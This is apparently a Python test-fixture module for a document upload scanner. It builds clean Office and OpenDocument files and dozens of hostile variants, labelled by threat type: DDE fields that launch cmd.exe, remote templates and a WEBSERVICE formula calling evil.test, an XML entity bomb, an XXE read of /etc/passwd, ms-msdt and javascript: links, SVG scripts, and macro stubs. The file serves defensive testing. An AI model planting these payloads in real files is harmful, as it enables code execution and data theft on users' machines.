"""Presentations, documents and workbooks, honest and otherwise."""

import io
import zipfile
from collections.abc import Callable, Mapping
from functools import cache, partial
from typing import Any, cast

import docx
import openpyxl
from docx.shared import Cm
from odfdo import Document, DrawPage, Frame, Paragraph
from openpyxl.chart import BarChart, Reference
from pptx import Presentation
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Inches

from tests.hostile.archives import zipped
from tests.hostile.case import Case
from tests.hostile.images import picture

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024
REMOTE = "http://evil.test/payload"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path fill="#123" d="M0 0h9v9z"/></svg>'


@cache
def pptx(slides: int = 3) -> bytes:
    deck = Presentation()
    for number in range(slides):
        slide = deck.slides.add_slide(deck.slide_layouts[1])
        slide.shapes.title.text = f"第{number + 1}节 二次函数"
        slide.placeholders[1].text = "图象与性质"
    link = (
        deck.slides[0]
        .shapes.add_textbox(0, 0, Inches(2), Inches(1))
        .text_frame.paragraphs[0]
        .add_run()
    )
    link.text = "国家智慧教育平台"
    link.hyperlink.address = "https://basic.smartedu.cn/"
    deck.slides[0].shapes.add_picture(io.BytesIO(picture("PNG")), 0, 0)
    data: Any = cast(Any, CategoryChartData)()
    data.categories = ["一班", "二班"]
    data.add_series("平均分", (81.5, 79))
    deck.slides[0].shapes.add_chart(
        XL_CHART_TYPE.COLUMN_CLUSTERED, 0, 0, Inches(3), Inches(2), data
    )
    target = io.BytesIO()
    deck.save(target)
    return target.getvalue()


@cache
def word() -> bytes:
    document = docx.Document()
    document.add_heading("《背影》教学设计", 0)
    document.add_paragraph("一、教学目标")
    document.add_picture(io.BytesIO(picture("JPEG")), width=Cm(4))
    document.add_table(2, 2).cell(0, 0).text = "环节"
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


@cache
def excel() -> bytes:
    book = openpyxl.Workbook()
    sheet: Any = book.active
    sheet.title = "成绩"
    for row in (("姓名", "分数"), ("甲", 90), ("乙", 85), ("合计", "=SUM(B2:B3)")):
        sheet.append(row)
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "D2")
    book.create_sheet("说明")["A1"] = "数据来自期中测验"
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


@cache
def odt() -> bytes:
    document = Document("text")
    document.body.clear()
    document.body.append(Paragraph("岳阳楼记"))
    return _saved(document)


@cache
def odp() -> bytes:
    document = Document("presentation")
    document.body.clear()
    for number in (1, 2):
        page = DrawPage(f"page{number}", name=f"第{number}页")
        page.append(Frame.text_frame(f"光的折射 {number}", size=("7cm", "5cm")))
        document.body.append(page)
    return _saved(document)


def _saved(document: Document) -> bytes:
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def remade(
    content: bytes,
    *,
    add: Mapping[str, bytes] | None = None,
    change: Mapping[str, tuple[bytes, bytes]] | None = None,
) -> bytes:
    """The package with parts added, and text in parts replaced at its first place."""
    parts = {}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        if missing := set(change or ()) - set(archive.namelist()):
            raise ValueError(f"the package has no {missing}")
        for entry in archive.infolist():
            part = archive.read(entry)
            if change and entry.filename in change:
                old, new = change[entry.filename]
                if old not in part:
                    raise ValueError(f"{entry.filename} has no {old!r}")
                part = part.replace(old, new, 1)
            parts[entry.filename] = part
    return zipped({**parts, **(add or {})})


def _typed(content: bytes, old: str, new: str) -> bytes:
    return remade(content, change={"[Content_Types].xml": (old.encode(), new.encode())})


def related(content: bytes, part: str, kind: str, target: str, mode: str = "External") -> bytes:
    relation = (
        f'<Relationship Id="rIdX" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )
    closing = b"</Relationships>"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        if part not in archive.namelist():
            whole = f'<Relationships xmlns="{_RELATIONS}">{relation}'.encode() + closing
            return remade(content, add={part: whole})
    return remade(content, change={part: (closing, relation.encode() + closing)})


def _with(make: Callable[[], bytes], part: str, content: bytes) -> bytes:
    return remade(make(), add={part: content})


def _typed_anew(make: Callable[[], bytes], old: str, new: str) -> bytes:
    return _typed(make(), old, new)


def _fetching(kind: str) -> bytes:
    return related(word(), "word/_rels/document.xml.rels", kind, REMOTE)


def in_word(xml: str) -> bytes:
    return remade(word(), change={"word/document.xml": (b"<w:sectPr", xml.encode() + b"<w:sectPr")})


def in_excel(formula: str) -> bytes:
    return remade(excel(), change={"xl/worksheets/sheet1.xml": (b"SUM(B2:B3)", formula.encode())})


def instruction(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def _in_odt(old: str, new: str, part: str = "content.xml") -> bytes:
    return remade(odt(), change={part: (old.encode(), new.encode())})


_BODY = "<office:text"
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {c} "&{p};&{p};&{p};&{p};&{p};&{p};&{p};&{p};">' for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><x>&i;</x>"
).encode()  # fmt: skip
_OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'

HONEST = [
    Case("a presentation", "二次函数.pptx", pptx, declared="application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    Case("a document", "背影.docx", word, declared="application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    Case("a workbook", "成绩.xlsx", excel, declared="application/zip"),
    Case("a presentation with a vector picture", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image9.svg": _SVG})),
    Case("a document with a link", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "https://www.moe.gov.cn/")),
    Case("an OpenDocument text", "岳阳楼记.odt", odt, declared="application/vnd.oasis.opendocument.text"),
    Case("an OpenDocument presentation", "折射.odp", odp),
    Case("a ZIP of documents", "a.zip", lambda: zipped({"教案.docx": word(), "课件.pptx": pptx(), "图.png": picture("PNG")})),
]  # fmt: skip

_MACRO_TYPES: tuple[tuple[str, Callable[[], bytes], str, str], ...] = (
    ("pptx", pptx, "application/vnd.openxmlformats-officedocument.presentationml.presentation.main", "application/vnd.ms-powerpoint.presentation.macroEnabled.main"),
    ("docx", word, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main", "application/vnd.ms-word.document.macroEnabled.main"),
    ("xlsx", excel, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main", "application/vnd.ms-excel.sheet.macroEnabled.main"),
)  # fmt: skip

_EXTERNAL = (
    "attachedTemplate",
    "oleObject",
    "image",
    "frame",
    "subDocument",
    "video",
    "slideMaster",
)

HOSTILE = [
    *(Case(f"a {name} with its macros named away", f"a.{name}", partial(_typed_anew, make, old, new), "macro") for name, make, old, new in _MACRO_TYPES),
    *(Case(f"a {name} with a VBA project", f"a.{name}", partial(_with, make, f"{folder}/vbaProject.bin", OLE), "macro") for name, make, folder in (("pptx", pptx, "ppt"), ("docx", word, "word"), ("xlsx", excel, "xl"))),
    *(Case(f"a {name} with an OLE object", f"a.{name}", partial(_with, make, f"{folder}/embeddings/oleObject1.bin", OLE), "embedded-object") for name, make, folder in (("pptx", pptx, "ppt"), ("docx", word, "word"), ("xlsx", excel, "xl"))),
    *(Case(f"a {name} with ActiveX", f"a.{name}", partial(_with, make, f"{folder}/activeX/activeX1.xml", b"<x/>"), "embedded-object") for name, make, folder in (("pptx", pptx, "ppt"), ("docx", word, "word"), ("xlsx", excel, "xl"))),
    *(Case(f"a document that fetches its {kind}", "a.docx", partial(_fetching, kind), "external-reference") for kind in _EXTERNAL),
    *(Case(f"a {name} whose XML laughs", f"a.{name}", partial(_with, make, "customXml/item9.xml", _LAUGHS), "xml-entities") for name, make in (("pptx", pptx), ("docx", word), ("xlsx", excel), ("odt", odt), ("odp", odp))),
    *(Case(f"a {name} that reads a file", f"a.{name}", partial(_with, make, "customXml/item9.xml", _OUTSIDE), "xml-entities") for name, make in (("pptx", pptx), ("docx", word), ("odt", odt))),
    Case("a template from elsewhere", "a.docx", lambda: remade(word(), add={"word/_rels/settings.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r" Type="{RELATION}/attachedTemplate" Target="{REMOTE}" TargetMode="External"/></Relationships>'.encode()}), "external-reference"),
    Case("a template on a share", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "attachedTemplate", "\\\\evil.test\\t.dotm", "Internal"), "external-reference"),
    Case("a link to a script", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "javascript:alert(1)"), "action"),
    Case("a link to a program", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "file:///C:/Windows/System32/calc.exe"), "action"),
    Case("a link to a handler", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "ms-msdt:/id PCWDiagnostic"), "action"),
    Case("a DDE field", "a.docx", lambda: in_word(instruction('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "dde"),
    Case("a DDE field in pieces", "a.docx", lambda: in_word(instruction("D", "DE", "AUTO c:\\\\cmd.exe")), "dde"),
    Case("a DDE field that is simple", "a.docx", lambda: in_word('<w:p><w:fldSimple w:instr="DDE excel book A1"/></w:p>'), "dde"),
    Case("a field that fetches a picture", "a.docx", lambda: in_word(instruction(f"INCLUDEPICTURE {REMOTE} \\d")), "external-reference"),
    Case("a chunk of HTML", "a.docx", lambda: in_word('<w:altChunk r:id="rId9"/>'), "embedded-file"),
    Case("a formula that runs a program", "a.xlsx", lambda: in_excel("cmd|&apos;/C calc&apos;!A0"), "dde"),
    Case("a formula that sends data", "a.xlsx", lambda: in_excel("WEBSERVICE(&quot;http://evil.test&quot;)"), "action"),
    Case("a workbook that reads another", "a.xlsx", lambda: remade(excel(), add={"xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r" Type="{RELATION}/externalLinkPath" Target="{REMOTE}" TargetMode="External"/></Relationships>'.encode()}), "external-reference"),
    Case("a workbook with a DDE link", "a.xlsx", lambda: remade(excel(), add={"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), "dde"),
    Case("a workbook with a macro sheet", "a.xlsx", lambda: _typed(excel(), "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet", "application/vnd.ms-excel.macrosheet"), "macro"),
    Case("a slide that runs a program", "a.pptx", lambda: remade(pptx(), change={"ppt/slides/slide2.xml": (b"<p:spPr", b'<a:hlinkClick action="ppaction://program"/><p:spPr')}), "action"),
    Case("a slide that runs a macro", "a.pptx", lambda: remade(pptx(), change={"ppt/slides/slide2.xml": (b"<p:spPr", b'<a:hlinkMouseOver action="ppaction://macro?name=x"/><p:spPr')}), "action"),
    Case("a program among the pictures", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.png": b"MZ\x90\0" + b"\0" * 99}), "embedded-file"),
    Case("a ZIP among the pictures", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.png": zipped({"a.js": b"x"})}), "embedded-file"),
    Case("a page among the pictures", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.png": b"<html><script>1</script>"}), "embedded-file"),
    Case("a vector picture with a script", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}), "script"),
    Case("a vector picture that loads", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'}), "script"),
    Case("a vector picture with a page", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>'}), "script"),
    Case("a vector picture that fetches", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.test/a.png"/></svg>'}), "external-reference"),
    Case("a vector picture whose style fetches", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "//evil.test/a.css";</style></svg>'}), "external-reference"),
    Case("a vector picture with entities", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image8.svg": _OUTSIDE}), "xml-entities"),
    Case("macros in an embedded workbook", "a.pptx", lambda: remade(pptx(), add={"ppt/embeddings/book.xlsx": remade(excel(), add={"xl/vbaProject.bin": OLE})}), "macro"),
    Case("XML of three hundred levels", "a.docx", lambda: remade(word(), add={"customXml/item9.xml": b"<a>" * 300 + b"</a>" * 300}), "too-costly"),
    Case("XML that is broken", "a.docx", lambda: remade(word(), add={"customXml/item9.xml": b"<a><b></a>"}), "damaged"),
    Case("a document cut short", "a.docx", lambda: word()[:-200], "damaged"),
    Case("a document with more behind", "a.docx", lambda: word() + b"MZ" + b"\x90" * 99, "hidden-data"),
    Case("a document named presentation", "a.pptx", word, "name-mismatch"),
    Case("a document declared PDF", "a.docx", word, "type-mismatch", "application/pdf"),
    Case("a ZIP named document", "a.docx", lambda: zipped({"a.txt": b"a"}), "name-mismatch"),
    Case("an RTF named document", "a.docx", lambda: b"{\\rtf1 {\\object\\objdata 0105}}", "type-not-accepted"),
    Case("a page named document", "a.docx", lambda: b"<html xmlns:w='urn:x'><script>1</script>", "type-not-accepted"),
    Case("an old document by a new name", "a.docx", lambda: OLE, "type-not-accepted"),
    Case("a template", "a.pptx", lambda: _typed(pptx(), "presentationml.presentation.main", "presentationml.template.main"), "type-not-accepted"),
    Case("an OpenDocument text with Basic", "a.odt", lambda: remade(odt(), add={"Basic/Standard/Module1.xml": b"<x/>"}), "macro"),
    Case("an OpenDocument text with Python", "a.odt", lambda: remade(odt(), add={"Scripts/python/evil.py": b"import os"}), "macro"),
    Case("an OpenDocument text that reacts", "a.odt", lambda: _in_odt(_BODY, '<office:scripts><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:language="ooo:script" xlink:href="vnd.sun.star.script:evil.py$x?language=Python"/></office:scripts>' + _BODY), "macro"),
    Case("an OpenDocument text that fetches", "a.odt", lambda: _in_odt(_BODY, f'<draw:image xlink:href="{REMOTE}"/>' + _BODY), "external-reference"),
    Case("an OpenDocument text of another's section", "a.odt", lambda: _in_odt(_BODY, f'<text:section-source xlink:href="{REMOTE}"/>' + _BODY), "external-reference"),
    Case("an OpenDocument text with DDE", "a.odt", lambda: _in_odt(_BODY, '<office:dde-source office:dde-application="soffice"/>' + _BODY), "dde"),
    Case("an OpenDocument text with OLE", "a.odt", lambda: remade(odt(), add={"Object 1": OLE}), "embedded-file"),
    Case("an OpenDocument text with an applet", "a.odt", lambda: _in_odt(_BODY, '<draw:applet draw:code="A"/>' + _BODY), "embedded-object"),
    Case("an encrypted OpenDocument text", "a.odt", lambda: _in_odt("</manifest:manifest>", "<manifest:encryption-data/></manifest:manifest>", "META-INF/manifest.xml"), "encrypted"),
]  # fmt: skip
